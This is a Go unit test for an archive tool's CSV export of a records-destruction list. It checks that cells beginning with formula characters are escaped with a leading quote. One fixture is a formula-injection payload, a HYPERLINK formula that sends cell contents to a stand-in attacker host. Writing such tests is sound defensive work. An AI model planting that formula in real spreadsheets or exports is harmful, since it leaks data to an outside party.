package retention

import (
	"bytes"
	"encoding/csv"
	"testing"

	"github.com/gongshi-archive/gongshi/archive"
)

// A destruction list opened in a spreadsheet runs no formula: metadata cells
// that begin with = + - @ (as filed, perhaps by someone hostile) get a leading
// quote; every other cell is as filed.
func TestRegisterCSVRunsNoFormula(t *testing.T) {
	rec := archive.Record{ID: "5tqexample", Version: 1, ArchivalCode: "Z109-WS·2026-D10-CQ01-0003",
		Title: `=HYPERLINK("http://evil.example/?x="&A1,"点击查看")`, DocNumber: "-1+1", Issuer: "@SUM(A1:A2)",
		Date: archive.D(2026, 3, 18), Type: "site_chart"}
	b, err := RegisterCSV(Disposal{ID: "D20370105-k3mdx2qa"}, []PlannedRecord{{Last: rec, ID: rec.ID}}, nil)
	if err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(b, []byte("\ufeff")))).ReadAll()
	if err != nil || len(rows) != 2 {
		t.Fatalf("%d rows, %v:\n%s", len(rows), err, b)
	}
	got := map[string]string{}
	for i, h := range rows[0] {
		got[h] = rows[1][i]
	}
	for col, want := range map[string]string{
		"题名": `'=HYPERLINK("http://evil.example/?x="&A1,"点击查看")`, "文号": "'-1+1", "责任者": "'@SUM(A1:A2)",
		"档号": rec.ArchivalCode, "成文日期": "2026-03-18", "记录标识": rec.ID, "序号": "1",
	} {
		if got[col] != want {
			t.Errorf("%s: %q, want %q", col, got[col], want)
		}
	}
}
